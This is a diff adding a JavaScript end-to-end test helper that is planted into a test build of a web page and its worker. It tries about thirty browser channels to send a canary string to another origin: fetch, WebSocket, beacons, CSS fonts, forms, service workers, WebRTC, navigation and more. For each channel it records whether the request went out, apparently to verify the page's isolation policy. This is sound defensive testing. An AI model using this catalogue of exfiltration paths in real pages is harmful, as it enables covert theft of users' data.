@@ -1,0 +1,97 @@
+// Every way out that a script could try, each with what became of it. Planted into a test build of the page, and into the
+// engine's worker there: `tests/e2e/lib/planted.mjs`. `target` is an address of another origin that must hear nothing.
+globalThis.plantedAttempts = async (target) => {
+  const outcomes = [];
+  const secret = 'canary-of-the-log';
+  const soon = (promise) => Promise.race([promise, new Promise((done) => { setTimeout(done, 1500, 'refused'); })]);
+  const attempt = async (name, work) => {
+    let outcome;
+    try { outcome = await soon(work()); } catch { outcome = 'refused'; }
+    outcomes.push([name, outcome ?? 'went out']);
+  };
+  const address = (name) => `${target}${name}?${secret}`;
+  const heard = (object, works, fails) => new Promise((done) => {
+    object.addEventListener(works, () => done('went out'));
+    object.addEventListener(fails, () => done('refused'));
+  });
+
+  await attempt('fetch', async () => { await fetch(address('fetch'), { mode: 'no-cors', method: 'POST', body: secret }); });
+  await attempt('fetch that outlives the page', async () => { await fetch(address('keepalive'), { mode: 'no-cors', keepalive: true }); });
+  await attempt('XMLHttpRequest', () => {
+    const request = new XMLHttpRequest();
+    request.open('POST', address('xhr'));
+    const result = heard(request, 'load', 'error');
+    request.send(secret);
+    return result;
+  });
+  await attempt('WebSocket', () => heard(new WebSocket(address('socket').replace('http', 'ws')), 'open', 'error'));
+  await attempt('EventSource', () => heard(new EventSource(address('events')), 'open', 'error'));
+  await attempt('WebTransport', async () => { await new WebTransport(address('transport').replace('http:', 'https:')).ready; });
+  if (globalThis.importScripts) {
+    await attempt('importScripts', async () => { importScripts(address('script')); });
+    await attempt('a worker in a worker', () => {
+      const worker = new Worker(address('worker'));
+      return heard(worker, 'message', 'error');
+    });
+    return outcomes;
+  }
+
+  const element = (name, given, rest = {}) => {
+    const made = Object.assign(document.createElement(name), given);
+    for (const [attribute, value] of Object.entries(rest)) made.setAttribute(attribute, value);
+    document.body.append(made);
+    return made;
+  };
+  // What the host of the attempt hears decides on these; they tell nothing themselves.
+  const silent = async () => { await new Promise((done) => { setTimeout(done, 300); }); return 'silent'; };
+  await attempt('beacon', () => { navigator.sendBeacon(address('beacon'), secret); return silent(); });
+  await attempt('image', () => heard(element('img', { src: address('image') }), 'load', 'error'));
+  await attempt('style sheet', () => heard(element('link', { rel: 'stylesheet', href: address('style') }), 'load', 'error'));
+  await attempt('picture of a style', () => { element('p', {}).style.backgroundImage = `url(${address('background')})`; return silent(); });
+  await attempt('font of a style', async () => { await new FontFace('planted', `url(${address('font')})`).load(); });
+  await attempt('import of a style', () => {
+    const sheet = new CSSStyleSheet();
+    sheet.replaceSync(`@font-face { font-family: p; src: url(${address('sheet-font')}) } p { background: url(${address('sheet')}); font-family: p }`);
+    document.adoptedStyleSheets = [...document.adoptedStyleSheets, sheet];
+    element('p', { textContent: 'planted' });
+    return silent();
+  });
+  await attempt('script', () => heard(element('script', { src: address('script') }), 'load', 'error'));
+  await attempt('module', async () => { await import(address('module')); });
+  await attempt('sound', () => heard(element('audio', { src: address('sound'), preload: 'auto' }), 'canplay', 'error'));
+  await attempt('frame', () => { element('iframe', { src: address('frame') }); return silent(); });
+  await attempt('object', () => { element('object', { data: address('object') }); return silent(); });
+  await attempt('embed', () => { element('embed', { src: address('embed') }); return silent(); });
+  await attempt('form', () => {
+    const form = element('form', { action: address('form'), method: 'post', target: '_blank' });
+    form.append(Object.assign(document.createElement('input'), { name: 'log', value: secret }));
+    form.submit();
+    return silent();
+  });
+  await attempt('prefetch', () => { element('link', { rel: 'prefetch', href: address('prefetch') }); return silent(); });
+  await attempt('preload', () => { element('link', { rel: 'preload', as: 'fetch', href: address('preload') }); return silent(); });
+  await attempt('rules of speculation', () => {
+    const rules = { prefetch: [{ source: 'list', urls: [address('speculation')] }] };
+    element('script', { type: 'speculationrules', text: JSON.stringify(rules) });
+    return silent();
+  });
+  await attempt('manifest', () => { element('link', { rel: 'manifest', href: address('manifest') }); return silent(); });
+  await attempt('worker', () => heard(new Worker(address('worker')), 'message', 'error'));
+  await attempt('shared worker', () => heard(new SharedWorker(address('shared')), 'message', 'error'));
+  await attempt('service worker', async () => { await navigator.serviceWorker.register(address('service')); });
+  await attempt('ping of a link', () => {
+    element('a', { href: '#/v1', ping: address('ping') }).click();
+    return silent();
+  });
+  await attempt('window', async () => { if (!globalThis.open(address('window'))) throw new Error('no window'); });
+  await attempt('WebRTC', async () => {
+    const connection = new RTCPeerConnection({ iceServers: [{ urls: `stun:${new URL(target).host}` }] });
+    connection.createDataChannel('planted');
+    await connection.setLocalDescription();
+  });
+  await attempt('link to elsewhere', () => { element('a', { href: address('link') }).click(); return silent(); });
+  await attempt('file saved from elsewhere', () => { element('a', { href: address('download'), download: 'x' }).click(); return silent(); });
+  await attempt('refresh', () => { element('meta', { httpEquiv: 'refresh', content: `0;url=${address('refresh')}` }); return silent(); });
+  await attempt('navigation', () => { location.href = address('navigation'); return silent(); });
+  return outcomes;
+};
